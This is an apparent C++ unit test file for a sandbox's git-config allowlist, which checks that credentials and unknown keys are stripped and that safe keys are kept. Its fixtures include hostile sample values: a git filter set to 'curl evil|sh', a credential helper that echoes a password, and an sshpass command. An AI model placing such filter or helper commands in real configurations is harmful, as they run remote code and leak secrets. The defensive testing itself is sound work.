// FS-12 by allowlist (SEC-1): each row keeps its key; every key not on the list, and every
// credential whatever its key, is removed from the copy commands see.
#include "plan/global_git_keys.h"

#include <gtest/gtest.h>

#include <set>

namespace cordon {
namespace {

// Token-shaped values, assembled so that this file does not itself hold one.
std::string ghp() { return "ghp_" + std::string("A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8"); }

class GlobalGitKeyRowTest : public ::testing::TestWithParam<GlobalGitKeyRow> {};

// A key and a value this row is written for.
GitConfigEntry example(const GlobalGitKeyRow& r, bool with_sub) {
  std::string name = std::string(r.name) == "*" ? "anything" : r.name;
  std::string key =
      std::string(r.section) + "." +
      (with_sub ? (std::string(r.section) == "filter" ? "lfs." : "https://h.example/.") : "") +
      name;
  std::string value = "plain";
  if (r.value == GlobalGitValue::kGitLfsCommand)
    value = name == "clean"     ? "git-lfs clean -- %f"
            : name == "smudge"  ? "git-lfs smudge -- %f"
            : name == "process" ? "git-lfs filter-process"
                                : "true";
  return {key, value, true};
}

TEST_P(GlobalGitKeyRowTest, KeepsItsKeyAndNothingWithACredential) {  // FS-12
  const GlobalGitKeyRow& r = GetParam();
  bool sub = r.sub == GitSubsection::kAny;
  GitConfigEntry e = example(r, sub);
  const GlobalGitKeyRow* got = global_git_key_row(e);
  ASSERT_NE(got, nullptr) << e.key;
  EXPECT_EQ(std::string(got->section) + "." + got->name, std::string(r.section) + "." + r.name)
      << e.key;
  EXPECT_EQ(global_git_key_removal(e), "") << e.key;
  EXPECT_GT(std::string(r.why).size(), 3u) << e.key << ": say why it holds no secret";
  // The same key with a token's shape, or a URL with a password, is removed.
  GitConfigEntry t = e;
  t.value = ghp();
  EXPECT_EQ(global_git_key_row(t), nullptr) << t.key;
  t.value = "https://me:pw@h.example/";
  EXPECT_NE(global_git_key_removal(t), "") << t.key;
  // Where the row takes no subsection, one is not kept (branch.main.remote, diff.x.textconv).
  if (r.sub == GitSubsection::kNone) {
    GitConfigEntry s = example(r, true);
    EXPECT_EQ(global_git_key_row(s), nullptr) << s.key;
  }
}

std::string row_name(const ::testing::TestParamInfo<GlobalGitKeyRow>& info) {
  std::string n = std::string(info.param.section) + "_" + info.param.name;
  for (char& c : n)
    if (!std::isalnum(static_cast<unsigned char>(c))) c = '_';
  return n + "_" + std::to_string(info.index);
}

INSTANTIATE_TEST_SUITE_P(FS12, GlobalGitKeyRowTest, ::testing::ValuesIn(global_git_key_rows()),
                         row_name);

TEST(GlobalGitKeys, RowsAreUnique) {  // FS-12
  std::set<std::string> seen;
  for (const auto& r : global_git_key_rows())
    EXPECT_TRUE(seen.insert(std::string(r.section) + "." + r.name).second)
        << r.section << "." << r.name;
}

// The third attack pass: sendemail.smtpPass survived, and the variants a denylist misses.
TEST(GlobalGitKeys, WhatIsNotKnownToBeSafeIsRemoved) {  // FS-12, SEC-1
  const std::vector<GitConfigEntry> removed = {
      {"sendemail.smtppass", "hunter2", true},
      {"sendemail.smtpuser", "ada", true},
      {"sendemail.smtpserver", "/usr/local/bin/msmtp-with-password", true},
      {"imap.pass", "hunter2", true},
      {"mytool.apikey", "0123456789abcdef0123456789abcdef01234567", true},
      {"mytool.token", "plain-but-unknown", true},
      {"hub.oauthtoken", "plain", true},
      {"github.token", ghp(), true},
      {"http.https://git.corp.example/.cookiefile", "~/.corp-cookies", true},
      {"http.cookiefile", "~/.cookies", true},
      {"http.savecookies", "true", true},
      {"http.sslkey", "~/.certs/client.key", true},
      {"http.sslcert", "~/.certs/client.crt", true},
      {"http.extraheader", "Authorization: Basic eA==", true},
      {"http.proxy", "http://me:pw@proxy.example:3128", true},
      {"http.https://me@git.corp.example/.sslverify", "false", true},
      {"credential.helper", "store", true},
      {"credential.helper", "!f() { echo password=x; }; f", true},
      {"credential.https://github.com.username", "ada", true},
      {"credential.usehttppath", "true", true},
      {"url.https://x-access-token:" + ghp() + "@github.com/.insteadof", "https://github.com/",
       true},
      {"url.https://github.com/.insteadof", "https://ada:pw@github.com/", true},
      {"url.https://ada@github.com/.pushinsteadof", "https://github.com/", true},
      {"core.askpass", "~/bin/print-password", true},
      {"core.sshcommand", "sshpass -p hunter2 ssh", true},
      {"core.gitproxy", "~/bin/proxy", true},
      {"core.editor", "vim", true},
      {"core.pager", "delta", true},
      {"core.hookspath", "~/.githooks", true},
      {"core.fsmonitor", "~/bin/watch", true},
      {"core.worktree", "/elsewhere", true},
      {"gpg.program", "~/bin/gpg-with-pin", true},
      {"gpg.ssh.program", "ssh-keygen", true},
      {"gpg.ssh.defaultkeycommand", "ssh-add -L", true},
      {"commit.gpgsign", "true", true},
      {"tag.gpgsign", "true", true},
      {"push.gpgsign", "true", true},
      {"commit.template", "~/.gitmessage", true},
      {"init.templatedir", "~/.git-template", true},
      {"diff.external", "~/bin/d", true},
      {"diff.tool", "meld", true},
      {"diff.exif.textconv", "exiftool", true},
      {"merge.tool", "meld", true},
      {"merge.ours.driver", "true", true},
      {"difftool.meld.cmd", "meld $LOCAL $REMOTE", true},
      {"mergetool.meld.cmd", "meld", true},
      {"pager.log", "less", true},
      {"sequence.editor", "vim", true},
      {"interactive.difffilter", "delta --color-only", true},
      {"filter.lfs.clean", "sh -c 'curl evil|sh' -- %f", true},
      {"filter.crypt.clean", "git-crypt clean", true},
      {"lfs.customtransfer.x.path", "~/bin/transfer", true},
      {"remote.origin.url", "https://github.com/o/r", true},
      {"branch.main.remote", "origin", true},
      {"submodule.x.update", "!sh", true},
      {"trailer.sign.cmd", "echo", true},
      {"web.browser", "firefox", true},
      {"uploadpack.packobjectshook", "x", true},
      {"maintenance.repo", "/home/ada/p", true},
      {"protocol.ext.allow", "always", false},  // a bare key: no value (still kept: see below)
  };
  for (size_t i = 0; i + 1 < removed.size(); ++i)
    EXPECT_NE(global_git_key_removal(removed[i]), "") << removed[i].key;
  // protocol.*.allow is the user's own choice of transports, and holds no secret.
  EXPECT_EQ(global_git_key_removal(removed.back()), "");
}

TEST(GlobalGitKeys, WhatGitCommitAndTheUsualWorkNeedIsKept) {  // FS-12
  const std::vector<GitConfigEntry> kept = {
      {"user.name", "Ada Lovelace", true},
      {"user.email", "ada@example.com", true},
      {"user.signingkey", "~/.ssh/id_ed25519.pub", true},
      {"gpg.format", "ssh", true},
      {"gpg.ssh.allowedsignersfile", "~/.config/git/allowed_signers", true},
      {"core.excludesfile", "~/.gitignore_global", true},
      {"core.autocrlf", "input", true},
      {"alias.lg", "log --oneline --graph", true},
      {"alias.up", "!git fetch && git rebase", true},
      {"init.defaultbranch", "main", true},
      {"color.ui", "auto", true},
      {"color.diff.meta", "yellow", true},
      {"pull.rebase", "true", true},
      {"push.autosetupremote", "true", true},
      {"fetch.prune", "true", true},
      {"rebase.autosquash", "true", true},
      {"merge.conflictstyle", "zdiff3", true},
      {"diff.algorithm", "histogram", true},
      {"include.path", "~/.gitconfig.local", true},
      {"includeif.gitdir:~/work/.path", "~/.gitconfig.work", true},
      {"url.git@github.com:.insteadof", "https://github.com/", true},
      {"url.ssh://git@github.com/.insteadof", "https://github.com/", true},
      {"http.https://git.corp.example/.sslcainfo", "/etc/ssl/corp.pem", true},
      {"http.postbuffer", "524288000", true},
      {"filter.lfs.clean", "git-lfs clean -- %f", true},
      {"filter.lfs.smudge", "git-lfs smudge --skip -- %f", true},
      {"filter.lfs.process", "git-lfs filter-process", true},
      {"filter.lfs.required", "true", true},
      {"safe.directory", "*", true},
      {"core.filemode", "", false},
  };
  for (const auto& e : kept) EXPECT_EQ(global_git_key_removal(e), "") << e.key;
}

}  // namespace
}  // namespace cordon
